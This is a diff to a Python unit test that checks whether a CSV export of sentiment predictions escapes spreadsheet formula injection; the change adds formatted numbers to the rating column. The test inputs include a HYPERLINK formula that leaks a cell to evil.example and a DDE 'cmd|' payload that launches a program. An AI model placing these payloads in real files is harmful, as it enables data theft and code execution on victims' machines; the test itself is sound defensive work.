@@ -114,14 +114,14 @@ def test_a_download_shows_formulas_as_text_and_leaves_numbers_and_other_texts_as
     inside a text is quoted, so a spreadsheet keeps it in its row."""
     texts = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@anonymous thanks!", "-2+3+cmd|' /C calc'!A0",
              "+1 555 0100", "\t=1+1", "\r=1+1", "great day = good day\rsame row", "'=already text", "-0.5"]
-    frame = pd.DataFrame({"text": texts, "rating": ["-0.5", "-1e3", "+2", "0", "3", "4", "5", "6", "-"]})
+    frame = pd.DataFrame({"text": texts, "rating": ["-0.5", "-1e3", "+2", "-1,234.5", "-5%", "4", "5", "6", "-"]})
     predictions = [{"label": "neutral", "probabilities": {"negative": 0.25, "neutral": 0.5, "positive": 0.25}}] * 9
     table = results_table(frame, list(range(1, 10)), predictions, "=run")
     rows = list(csv.DictReader(io.StringIO(as_csv(table).decode(), newline="")))
     assert [row["text"] for row in rows] == [
         '\'=HYPERLINK("http://evil.example/?"&A1,"click")', "'@anonymous thanks!", "'-2+3+cmd|' /C calc'!A0",
         "'+1 555 0100", "'\t=1+1", "'\r=1+1", "great day = good day\rsame row", "'=already text", "-0.5"]
-    assert [row["rating"] for row in rows] == ["-0.5", "-1e3", "+2", "0", "3", "4", "5", "6", "'-"]
+    assert [row["rating"] for row in rows] == ["-0.5", "-1e3", "+2", "-1,234.5", "-5%", "4", "5", "6", "'-"]
     assert {row["model_version"] for row in rows} == {"'=run"} and {row["confidence"] for row in rows} == {"0.5"}
     assert table["text"].tolist() == texts  # the table on screen is the file's own
 
